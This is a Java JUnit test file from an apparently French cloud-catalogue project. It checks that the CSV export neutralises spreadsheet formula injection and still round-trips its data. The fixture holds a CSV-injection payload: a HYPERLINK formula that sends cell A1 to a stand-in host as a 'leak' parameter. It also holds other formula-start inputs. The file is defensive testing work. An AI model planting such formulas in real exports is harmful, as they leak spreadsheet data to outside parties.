package fr.gouv.nuage.catalogue;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

/**
 * A CSV export opened in a spreadsheet runs no formula a provider wrote in an offer, and
 * still reads back as the catalogue it was written from.
 */
class CatalogueCsvFormulaTest {

	private static final String HYPERLINK = "=HYPERLINK(\"https://example.test/?leak=\"&A1,\"Voir\")";

	private final Catalogue catalogue = load(
			SmallCatalogue.TEXT.replace("provider: Hyper\n", "provider: '" + HYPERLINK.replace("'", "''") + "'\n")
				.replace("service: Region Paris", "service: \"+33 Paris\"")
				.replace("note: {fr: \"À vérifier.\", en: \"To be checked.\"}",
						"note: {fr: \"-2+3\", en: \"@SUM(A1:A9)\"}")
				.replace("provider: Trusted\n", "provider: \"'=already quoted\"\n"));

	private static Catalogue load(String text) {
		Catalogue.LoadResult result = Catalogue.load("formulas.yaml", text);
		assertThat(result).isInstanceOf(Catalogue.Loaded.class);
		return ((Catalogue.Loaded) result).catalogue();
	}

	@Test
	void noCellOfTheExportStartsAFormula() {
		String csv = CatalogueCsv.export(catalogue, catalogue.asOf());
		List<List<String>> rows = CatalogueCsv.parse(csv);
		assertThat(rows).hasSize(5);
		for (List<String> row : rows) {
			assertThat(row).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r\n\0".indexOf(cell.charAt(0)) >= 0);
		}
		assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://example.test/?leak=\"\"&A1,\"\"Voir\"\")\",")
			.contains(",\"'+33 Paris\",")
			.contains(",\"'-2+3\",\"'@SUM(A1:A9)\",")
			.contains(",\"''=already quoted\",");
	}

	@Test
	void theGuardedExportReadsBackAsItWasWritten() {
		String csv = CatalogueCsv.export(catalogue, catalogue.asOf());
		Catalogue.LoadResult result = CatalogueCsv.load("export.csv", csv, catalogue);
		assertThat(result).isInstanceOf(Catalogue.Loaded.class);
		Catalogue back = ((Catalogue.Loaded) result).catalogue();
		assertThat(back.offer("hyperscaler").orElseThrow().provider()).isEqualTo(HYPERLINK);
		assertThat(back.offer("hyperscaler").orElseThrow().service()).isEqualTo("+33 Paris");
		assertThat(back.offer("trusted-iaas").orElseThrow().provider()).isEqualTo("'=already quoted");
		assertThat(back.offer("suite").orElseThrow().note().fr()).isEqualTo("-2+3");
		assertThat(back.offer("suite").orElseThrow().note().en()).isEqualTo("@SUM(A1:A9)");
		assertThat(CatalogueCsv.export(back, catalogue.asOf())).isEqualTo(csv);
	}

	@Test
	void aCellIsGuardedOnlyWhenASpreadsheetWouldRunIt() {
		assertThat(CatalogueCsv.guarded("-5")).as("no column is a number").isEqualTo("'-5");
		assertThat(CatalogueCsv.guarded("\t=1+1")).isEqualTo("'\t=1+1");
		assertThat(CatalogueCsv.guarded("\r=1+1")).isEqualTo("'\r=1+1");
		assertThat(CatalogueCsv.guarded("'=1+1")).isEqualTo("''=1+1");
		for (String plain : List.of("", "Pi", "l'offre", "'quoted", "a=b", "1-2", "SECNUMCLOUD/3=QUALIFIED")) {
			assertThat(CatalogueCsv.guarded(plain)).isEqualTo(plain);
		}
		for (String cell : List.of("", "=1", "'=1", "''+1", "'quoted", "-", "@", "\t", "plain")) {
			assertThat(CatalogueCsv.unguarded(CatalogueCsv.guarded(cell))).isEqualTo(cell);
		}
		assertThat(CatalogueCsv.unguarded("=typed by hand")).isEqualTo("=typed by hand");
	}

}
